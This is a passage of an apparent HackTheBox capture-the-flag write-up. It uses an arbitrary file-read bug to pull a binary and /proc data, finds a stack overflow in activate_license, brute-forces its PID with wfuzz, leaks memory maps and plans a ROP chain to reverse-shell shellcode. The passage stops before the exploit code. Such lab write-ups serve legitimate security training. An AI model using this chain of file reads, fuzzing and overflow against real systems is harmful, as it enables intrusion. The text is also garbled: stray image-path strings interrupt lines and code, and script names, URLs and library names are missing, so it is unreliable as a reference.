000000009:   200        0 L      0 W      0 Ch"/usr/local/sbin"
000000010:   200        0 L      0 W      0 Ch        "/usr/sbin"
000000004:   200        53 L     462 W    22501 Ch    "/usr/bin"
000000011:   200        0 L      0 W      0 Ch        "/sbin"
000000005:   200        53 L     462 W    22501 Ch    "/bin"

Total time: 0.272308
Processed Requests: 11
Filtered Requests: 0
Requests/sec.: 40.39541

/bin is commonly a symlink to /usr/bin now. For example, my VM:

oxdf@hacky$ ls -ld /bin
lrwxrwxrwx 1 root root 7 Jan 25 15:17 /bin -> usr/bin

I’ll download the file:

oxdf@hacky$ ./ /usr/bin/activate_license
Warning: Binary output can mess up your terminal. Use "--output -" to tell
Warning: curl to output it to your terminal anyway, or consider "--output
Warning: <FILE>" to save to a file.

It doesn’t like printing binary data to the screen. Because my script is justadding the input to the end of the curl command, I can add the -o switch here:

oxdf@hacky$ ./ '/usr/bin/activate_license -o activate_license'
  % Total    % Received % Xferd  Average Speed   Time    Time     Time  CurrentDload  Upload   Total   Spent    Left  Speed
100 22536    0 22536    0     0  86015      0 --:--:-- --:--:-- --:--:-- 85688

The result is a 64-bit ELF executable:

oxdf@hacky$ file activate_license
activate_license: ELF 64-bit LSB shared object, x86-64, version 1 (SYSV), dynamically linked, interpreter /lib64/, BuildID[sha1]=554631debe5b40be0f96cabea315eedd2439fb81, for GNU/Linux 3.2.0, with debug_info, not stripped

Reverse activate_license


Opening the file in Ghidra, I’ll start at main. There’s a bunch of code the sets up a listening socket on a port read from the command line arguments. Eventually, there’s a while (true) loop:

  while( true ) {
    while( true ) {
      clientfd = accept(serverfd,(sockaddr *)&clientaddr,&clientaddrlen);
      if (clientfd != -1) break;fwrite("Error: accepting client\n",1,0x18,stderr);
    printf("[+] accepted client connection from %s:%d\n",clientaddr_s,(ulong)clientaddr.sin_port);
    _Var2 = fork();
    if (_Var2 == 0) break;
                    /* WARNING: Subroutine does not return */

This is actually fairly straight forward:


This function is also quite simple. There’s some setup, and then it reads four bytes from the socket and converts it to an integer in a variable I’ve named msglen:

void activate_license(int sockfd)

  int iVar1;
  ssize_t res;
  int *error_loc;
  char *error;
  sqlite3_stmt *stmt;
  sqlite3 *db;
  uint32_t msglen;
  char buffer [512];
  res = read(sockfd,&msglen,4);
  if (res == -1) {error_loc = __errno_location();
    error = strerror(*error_loc);
  msglen = ntohl(msglen);
  printf("[+] reading %d bytes\n",(ulong)msglen);

Next, it reads that many bytes from the socket into a variable I’ve named buffer:

  res = read(sockfd,buffer,(ulong)msglen);
  if (res == -1) {
    error_loc = __errno_location();
    error = strerror(*error_loc);The rest is opening a SQLite database named license.sqlite,making sure a table named license exists, and then writing the data from buffer into that DB:

  iVar1 = sqlite3_open("license.sqlite",&db);
  if (iVar1 != 0) {
    error = (char *)sqlite3_errmsg(db);
  iVar1 = sqlite3_exec(db,
                       "CREATE TABLE IF NOT EXISTS license (   id INTEGER PRIMARY KEY AUTOINCREMENT,    license_key TEXT)"
  if (iVar1 != 0) {
    error = (char *)sqlite3_errmsg(db);
  iVar1 = sqlite3_prepare_v2(db,"INSERT INTO license (license_key) VALUES (?)",0xffffffff,&stmt,0);
  if (iVar1 != 0) {
    error = (char *)sqlite3_errmsg(db);
  iVar1 = sqlite3_bind_text(stmt,1,buffer,0x200,0);
  if (iVar1 != 0) {
    error = (char *)sqlite3_errmsg(db);
  iVar1 = sqlite3_step(stmt);
  if (iVar1 != 0x65) {
    error = (char *)sqlite3_errmsg(db);
  iVar1 =sqlite3_reset(stmt);
  if (iVar1 != 0) {
    error = (char *)sqlite3_errmsg(db);
  iVar1 = sqlite3_finalize(stmt);
  if (iVar1 != 0) {
    error = (char *)sqlite3_errmsg(db);
  iVar1 = sqlite3_close(db);
  if (iVar1 != 0) {
    error = (char *)sqlite3_errmsg(db);
  printf("[+] activated license: %s\n",buffer);

It’s done in a safe way using prepared statements, so it isn’t SQL injectable.

Buffer Overflow Fiesability


There is a vulnerability in the code above. The user provides the length for the data that will be read from the socket (up to what can be stored in that four-byte length, so over four GB), and store it into a buffer hardcoded to512 bytes. That gives plenty of space for a simple buffer overflow.


Address space randomization is enabled (checked with the file read vulnerability):

oxdf@hacky$ ./ /proc/sys/kernel/randomize_va_space

2 indicates full randomization.

checksec shows that data execution prevention (DEP, or NX) is on, as is PIE and RELRO:

oxdf@hacky$ checksec activate_license
[*] '/media/sf_CTFs/hackthebox/retired-'
    Arch:     amd64-64-little
    RELRO:    Full RELRO
    Stack:    No canary found
    NX:       NX enabled
    PIE:      PIE enabled

Not having to worry about stack canaries is nice, but because of DEP I won’t be able to execute from the stack,because of ASLR/PIE the addresses of basically everything will be randomized, and because of RELRO the GOT and PLT tables are protected.

Leak PID

Because of how this program handles connections, the main process will stay the same always listening, and it will fork another child to handle the connection. The addresses in memory of for the main process will be static. Further, because of how fork creates an exact copy of the running process, the child processes will have the same addresses as well.

This means that if I can leak the memory maps of activate_license, I can use that to make a ROP chain control execution and get a reverse shell. The only way I know to do that is from /proc/[pid]/, but I’ll need to know the PID of the activate_license process.

One way to approach this is to use wfuzz to find it. Instead of using -w to pass a wordlist, I’ll use -z range,a-b to pass numbers from a to b. I’ll read the cmdline files from /proc, fuzzing all possible process ids. --ss activate_license will show any results that contain that string:

oxdf@hacky$ wfuzz -u '' -z range,1-65535 --ss 'activate_license'
* Wfuzz 2.4.5 - The Web Fuzzer                         *

Total requests: 65535

ID           Response   Lines    Word     Chars       Payload

000000407:   200        0 L      1 W      31 Ch       "407"
Finishing pending requests...

It finds process 407 (may be different on different boots), and I’ll kill it once it seems unlikely to find anything else.

The command line for PID 407 is what I am looking for (replacing nulls with spaces for readability):

oxdf@hacky$ ./ '/proc/407/cmdline -o- -s' | tr '\000' ' '
/usr/bin/activate_license 1337

Alternatively, depending on the options used when the kernel was compiled (see Beyond Root for more), there may be a file in /proc named sched_debug. This file has debug information about the various CPUs, and includes a list of “runnable tasks” that includes activate_licens[e] and it’s PID (407):

runnabletasks:
 S            task   PID         tree-key  switches  prio     wait-time             sum-exec        sum-sleep
 S activate_licens   407   2312253.695414        18   120         0.000000         4.064480         0.000000 0 0 /

Leak Addresses

With the PID, I’ll get the maps file:

oxdf@hacky$ ./ /proc/407/maps
555aa1164000-555aa1165000 r--p 00000000 08:01 2408                       /usr/bin/activate_license
555aa1165000-555aa1166000 r-xp 00001000 08:01 2408                       /usr/bin/activate_license
555aa1166000-555aa1167000 r--p 00002000 08:01 2408                       /usr/bin/activate_license
555aa1167000-555aa1168000 r--p 00002000 08:01 2408                       /usr/bin/activate_license
555aa1168000-555aa1169000 rw-p 00003000 08:01 2408                       /usr/bin/activate_license
555aa3078000-555aa3099000 rw-p 00000000 00:00 0                          [heap]
7f48887d6000-7f48887d8000 rw-p 00000000 00:00 0
7f48887d8000-7f48887d9000 r--p 00000000 08:01 3635                       /usr/lib/x86_64-linux-gnu/
7f48887d9000-7f48887db000 r-xp 00001000 08:01 3635                       /usr/lib/x86_64-linux-gnu/
7f48887db000-7f48887dc000 r--p 00003000 08:01 3635                       /usr/lib/x86_64-linux-gnu/
7f48887dc000-7f48887dd000 r--p 00003000 08:01 3635                       /usr/lib/x86_64-linux-gnu/
7f48887dd000-7f48887de000 rw-p 00004000 08:013635                       /usr/lib/x86_64-linux-gnu/
7f48887de000-7f48887e5000 r--p 00000000 08:01 3645                       /usr/lib/x86_64-linux-gnu/
7f48887e5000-7f48887f5000 r-xp 00007000 08:01 3645                       /usr/lib/x86_64-linux-gnu/
7f48887f5000-7f48887fa000 r--p 00017000 08:01 3645                       /usr/lib/x86_64-linux-gnu/
7f48887fa000-7f48887fb000 r--p 0001b000 08:01 3645                       /usr/lib/x86_64-linux-gnu/
7f48887fb000-7f48887fc000 rw-p 0001c000 08:01 3645                       /usr/lib/x86_64-linux-gnu/
7f48887fc000-7f4888800000 rw-p 00000000 00:00 0
7f4888800000-7f488880f000 r--p 00000000 08:01 3636                       /usr/lib/x86_64-linux-gnu/
7f488880f000-7f48888a9000 r-xp 0000f000 08:01 3636/usr/lib/x86_64-linux-gnu/
7f48888a9000-7f4888942000 r--p 000a9000 08:01 3636                       /usr/lib/x86_64-linux-gnu/
7f4888942000-7f4888943000 r--p 00141000 08:01 3636                       /usr/lib/x86_64-linux-gnu/
7f4888943000-7f4888944000 rw-p 00142000 08:01 3636                       /usr/lib/x86_64-linux-gnu/
7f4888944000-7f4888969000 r--p 00000000 08:01 3634                       /usr/lib/x86_64-linux-gnu/
7f4888969000-7f4888ab4000 r-xp 00025000 08:01 3634                       /usr/lib/x86_64-linux-gnu/
7f4888ab4000-7f4888afe000 r--p 00170000 08:01 3634                       /usr/lib/x86_64-linux-gnu/
7f4888afe000-7f4888aff000 ---p 001ba000 08:01 3634                       /usr/lib/x86_64-linux-gnu/
7f4888aff000-7f4888b02000 r--p 001ba000 08:01 3634                       /usr/lib/x86_64-linux-gnu/
7f4888b02000-7f4888b05000 rw-p 001bd00008:01 3634                       /usr/lib/x86_64-linux-gnu/
7f4888b05000-7f4888b09000 rw-p 00000000 00:00 0
7f4888b09000-7f4888b19000 r--p 00000000 08:01 5321                       /usr/lib/x86_64-linux-gnu/
7f4888b19000-7f4888c11000 r-xp 00010000 08:01 5321                       /usr/lib/x86_64-linux-gnu/
7f4888c11000-7f4888c45000 r--p 00108000 08:01 5321                       /usr/lib/x86_64-linux-gnu/
7f4888c45000-7f4888c49000 r--p 0013b000 08:01 5321                       /usr/lib/x86_64-linux-gnu/
7f4888c49000-7f4888c4c000 rw-p 0013f000 08:01 5321                       /usr/lib/x86_64-linux-gnu/
7f4888c4c000-7f4888c4e000 rw-p 00000000 00:00 0
7f4888c53000-7f4888c54000 r--p 00000000 08:01 3630                       /usr/lib/x86_64-linux-gnu/
7f4888c54000-7f4888c74000 r-xp 00001000 08:01 3630                       /usr/lib/x86_64-linux-gnu/
7f4888c74000-7f4888c7c000 r--p 00021000 08:01 3630                       /usr/lib/x86_64-linux-gnu/
7f4888c7d000-7f4888c7e000 r--p 00029000 08:01 3630                       /usr/lib/x86_64-linux-gnu/
7f4888c7e000-7f4888c7f000 rw-p 0002a000 08:01 3630                       /usr/lib/x86_64-linux-gnu/
7f4888c7f000-7f4888c80000 rw-p 00000000 00:00 0
7ffe99226000-7ffe99247000 rw-p 00000000 00:00 0                          [stack]
7ffe9932a000-7ffe9932e000 r--p 00000000 00:00 0                          [vvar]
7ffe9932e000-7ffe99330000 r-xp 00000000 00:00 0                          [vdso]

This provides the location in memory for each loaded library as well as the main program. It’ll also identify areas of memory that are writable or executable.

Generate Buffer Overflow


Because of all the protections in place, I’ll need to use return oriented programming (ROP). I’ll identify small bits of code that do things like pop one or two items from the stack into various registers, and then return to some system call I want to make.

A common tactic for this kind of attack is to copy stdin, stdout, and stderrinto the socket, and replace the existing process with bash. Unfortunately, because I’ll get feeding my exploit through the PHP page, and the PHP page just writes data into the socket and then exits, there’s no way to get data back. I’ll have to execute something that creates a reverse shell on it’s own.

I’ll take the approach of using ROP to call mprotect on the stack to make it executable, andthen using a JMP RSP gadget to jump to shellcode that follows on the stack. An alternative approach would be to get a full reverse shell string into a known memory address and call system on it.

At this point I need:

  • Offset from start of input to return address;
  • Address for mprotect;
  • Gadgets to get parameters into RDI, RSI, and RDX to make the mprotect call;
  • Gedget for JMP RSP;
  • Shellcode to return a reverse shell.

Get Return Offset

I’ll start the server locally:

oxdf@hacky$ ./activate_license 9999
[+] starting server listening on port 9999
[+] listening ...

And connect to it with gdb, letting pidof find the PID for me:oxdf@hacky$ sudo gdb -q -p $(pidof activate_license)
Attaching to process 1109676
